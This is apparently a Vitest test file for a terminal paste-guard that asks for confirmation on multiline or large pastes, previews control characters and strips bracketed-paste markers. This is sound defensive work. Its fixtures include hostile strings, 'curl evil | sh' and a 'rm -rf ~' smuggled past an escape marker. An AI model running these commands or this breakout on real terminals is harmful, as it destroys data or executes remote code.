import { describe, expect, it } from 'vitest';
import { cleanPaste, lineCount, pasteQuestion, previewOf, reviewPaste } from './paste-guard';

const rules = { confirmMultiline: true, confirmOverChars: 5000 };

describe('reviewPaste', () => {
  it('pastes one line at once', () => {
    expect(reviewPaste('ls -la', rules)).toBeNull();
    expect(reviewPaste('', rules)).toBeNull();
  });

  it('asks for text with a line break in any convention, a trailing one included', () => {
    for (const text of ['a\nb', 'a\r\nb', 'a\rb', 'rm -rf build\n']) {
      const review = reviewPaste(text, rules);
      expect(review?.multiline, JSON.stringify(text)).toBe(true);
    }
    expect(reviewPaste('one\ntwo\nthree\n', rules)?.lines).toBe(3);
  });

  it('asks for a large text on one line, above the threshold only', () => {
    expect(reviewPaste('x'.repeat(5000), rules)).toBeNull();
    const review = reviewPaste('x'.repeat(5001), rules);
    expect(review).toMatchObject({ large: true, multiline: false, lines: 1, chars: 5001 });
  });

  it('turns each question off on its own', () => {
    expect(reviewPaste('a\nb', { ...rules, confirmMultiline: false })).toBeNull();
    expect(reviewPaste('x'.repeat(9000), { ...rules, confirmOverChars: 0 })).toBeNull();
    expect(reviewPaste('a\nb', { ...rules, confirmOverChars: 0 })?.multiline).toBe(true);
  });
});

describe('lineCount', () => {
  it('counts lines, not line breaks', () => {
    expect(lineCount('a')).toBe(1);
    expect(lineCount('a\n')).toBe(1);
    expect(lineCount('a\nb')).toBe(2);
    expect(lineCount('a\r\n\r\nb')).toBe(3);
    expect(lineCount('')).toBe(0);
  });
});

describe('previewOf', () => {
  it('shows the first lines and marks what is left out', () => {
    const text = Array.from({ length: 10 }, (_, i) => `line ${i + 1}`).join('\n');
    const preview = previewOf(text);
    expect(preview.split('\n').slice(0, 6)).toEqual([
      'line 1',
      'line 2',
      'line 3',
      'line 4',
      'line 5',
      'line 6',
    ]);
    expect(preview.endsWith('\n…')).toBe(true);
    expect(previewOf('a\nb\n')).toBe('a\nb\n');
  });

  it('cuts a long text to a bounded size', () => {
    expect(previewOf('y'.repeat(10_000)).length).toBeLessThan(410);
  });

  it('makes escapes and other control characters visible', () => {
    expect(previewOf('echo \x1b[201~; curl evil | sh\x07')).toBe('echo ␛[201~; curl evil | sh␇');
    expect(previewOf('tab\there')).toBe('tab\there');
    expect(previewOf('del\x7f')).toBe('del␡');
  });
});

describe('cleanPaste', () => {
  it('removes bracketed-paste markers so the text cannot leave the bracket', () => {
    expect(cleanPaste('safe\x1b[201~rm -rf ~\r\x1b[200~')).toBe('saferm -rf ~\r');
    expect(cleanPaste('plain text')).toBe('plain text');
  });
});

describe('pasteQuestion', () => {
  it('names the line count, or the size', () => {
    expect(pasteQuestion({ lines: 3, chars: 12, multiline: true, large: false, preview: '' })).toContain(
      '3 lines',
    );
    expect(pasteQuestion({ lines: 1, chars: 6000, multiline: false, large: true, preview: '' })).toContain(
      '6,000 characters',
    );
  });
});
